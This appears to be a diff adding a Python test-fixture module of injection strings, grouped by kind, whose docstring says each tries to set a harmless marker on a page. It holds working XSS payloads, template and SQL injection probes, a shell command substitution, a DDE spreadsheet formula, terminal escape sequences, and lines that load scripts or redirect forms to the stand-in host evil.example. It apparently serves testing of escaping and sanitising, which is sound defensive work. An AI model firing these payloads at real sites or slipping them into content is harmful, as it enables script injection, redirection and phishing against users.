@@ -1,0 +1,156 @@
+"""Texts that would do something if a page took them for more than text. Each tries to leave a mark, `window.__hit`."""
+
+_MARK = "window.__hit=1"
+_AWAY = "http://evil.example/"
+
+# What runs, or asks somebody else, once it stands where elements can.
+_CORES = (
+    f"<script>{_MARK}</script>",
+    f"<img src=x onerror={_MARK}>",
+    f"<svg onload={_MARK}>",
+    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
+    f"<body onload={_MARK}>",
+    f"<input autofocus onfocus={_MARK}>",
+    f"<details open ontoggle={_MARK}>",
+    f'<a href="javascript:{_MARK}">here</a>',
+    f"<script src={_AWAY}a.js></script>",
+    f"<img src={_AWAY}b.png>",
+    f"<link rel=stylesheet href={_AWAY}c.css>",
+    f"<style>@import '{_AWAY}d.css';body{{background:url({_AWAY}e)}}</style>",
+    f'<meta http-equiv=refresh content="0;url={_AWAY}">',
+    f'<form action="{_AWAY}"><button>Sign in</button>',
+    f"<base href={_AWAY}>",
+)
+# How to get there from where a text usually stands.
+_WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", '"/>')
+
+_INSIDE_A_TAG = (
+    f'" onmouseover="{_MARK}',
+    f"' onmouseover='{_MARK}",
+    f'" autofocus onfocus="{_MARK}" x="',
+    f'" style="background:url({_AWAY}f)',
+    f" onclick={_MARK} ",
+    f"`onerror={_MARK}`",
+    f'" formaction="javascript:{_MARK}',
+    f'x" srcset="{_AWAY}g 1x',
+    'id="main" name="ticket" value="',
+    '" hidden="" class="unseen',
+)
+_ADDRESSES = (
+    f"javascript:{_MARK}",
+    f"JaVaScRiPt:{_MARK}",
+    f"java\tscript:{_MARK}",
+    f"\u0001javascript:{_MARK}",
+    f"javascript://%0a{_MARK}",
+    f"javascript:/*--></title></style></textarea></script><svg/onload='{_MARK}'>",
+    f"data:text/html,<script>{_MARK}</script>",
+    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==",
+    f"vbscript:{_MARK}",
+    "//evil.example/",
+    "\\\\evil.example\\x",
+    "https:evil.example",
+    f"view-source:{_AWAY}",
+)
+_TEMPLATES = (
+    "{{ 7 * 7 }}",
+    "{{ config }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% for x in [1] %}x{% endfor %}",
+    "{# gone #}",
+    "{{{ 7 * 7 }}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "*{7*7}",
+    "[[${7*7}]]",
+    "%(name)s %s %d",
+    "{0.__class__}",
+    "$(id) `id`",
+    "'; DROP TABLE plants; --",
+    '" OR 1=1 --',
+)
+_TREES = (
+    f"<svg><script>{_MARK}</script></svg>",
+    f"<svg><a xlink:href=javascript:{_MARK}><text y=9>x</text></a></svg>",
+    f"<svg><animate onbegin={_MARK} attributeName=x dur=1s>",
+    f"<svg><use href=data:image/svg+xml,<svg/onload={_MARK}>>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_MARK}>",
+    f'<noscript><p title="</noscript><img src=x onerror={_MARK}>">',
+    f"<template><script>{_MARK}</script></template>",
+    f"<table><td background={_AWAY}h>",
+    f"<video><source onerror={_MARK}></video>",
+    f"<audio src=x onerror={_MARK}>",
+    f"<object data=javascript:{_MARK}></object>",
+    f"<embed src={_AWAY}i>",
+    f"<marquee onstart={_MARK}>x</marquee>",
+    f"<select><option></select><img src=x onerror={_MARK}>",
+    f"<p><plaintext><xmp><img src=x onerror={_MARK}>",
+    f"<custom-element onfocus={_MARK} tabindex=1 autofocus>",
+    f"<div popover id=x onbeforetoggle={_MARK}></div>",
+)
+_LETTERS = (
+    f"<scr\u0000ipt>{_MARK}</script>",
+    f"\uff1cscript\uff1e{_MARK}\uff1c/script\uff1e",
+    f"\u2039img src=x onerror={_MARK}\u203a",
+    f"+ADw-script+AD4-{_MARK}+ADw-/script+AD4-",
+    f"\u00bcscript\u00be{_MARK}\u00bc/script\u00be",
+    f"&lt;script&gt;{_MARK}&lt;/script&gt;",
+    f"&#60;script&#62;{_MARK}&#60;/script&#62;",
+    f"&#x3c;img src=x onerror={_MARK}&#x3e;",
+    f"%3Cscript%3E{_MARK}%3C/script%3E",
+    f"\\u003cscript\\u003e{_MARK}\\u003c/script\\u003e",
+    f"\\x3cimg src=x onerror={_MARK}\\x3e",
+    "&amp;&quot;&apos;&nbsp;&",
+    "\u202egnp.exe\u202c",
+    "\u2066\u2067\u2069 turned",
+    "\u200b\u200d\ufeff nothing to see",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033dA\u0334\u0319\u0324\u031eL\u0356G\u0348O\u0320",
+    "\U0001f331" * 30,
+    "\ufffd\ufffc\ufff9",
+    "\u2028line\u2029paragraph",
+)
+_CELLS = (
+    "=cmd|' /C calc'!A0",
+    f'=HYPERLINK("{_AWAY}","here")',
+    f'=IMAGE("{_AWAY}j.png")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    '"=1+1"',
+    "\uff1d1+1",
+)
+_TERMINALS = (
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;title\x07",
+    "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07",
+    "\x9b31m",
+    "\x08\x08\x08over",
+    "one\rtwo",
+    "HTTP/1.1 200 OK\r\n\r\n<script>",
+    "\u001b[2J",
+)
+
+PAYLOADS: tuple[str, ...] = (
+    *(way + core for core in _CORES for way in (_WAYS_OUT if core in _CORES[:5] else _WAYS_OUT[:4])),
+    *_INSIDE_A_TAG,
+    *_ADDRESSES,
+    *_TEMPLATES,
+    *_TREES,
+    *_LETTERS,
+    *_CELLS,
+    *_TERMINALS,
+)
+ONE_OF_EACH: tuple[str, ...] = (
+    _WAYS_OUT[1] + _CORES[1],
+    _WAYS_OUT[3] + _CORES[0],
+    _CORES[7],
+    _INSIDE_A_TAG[2],
+    _ADDRESSES[0],
+    _TEMPLATES[0],
+    _TREES[5],
+    _LETTERS[0],
+    _LETTERS[5],
+    _CELLS[0],
+    _TERMINALS[6],
+)
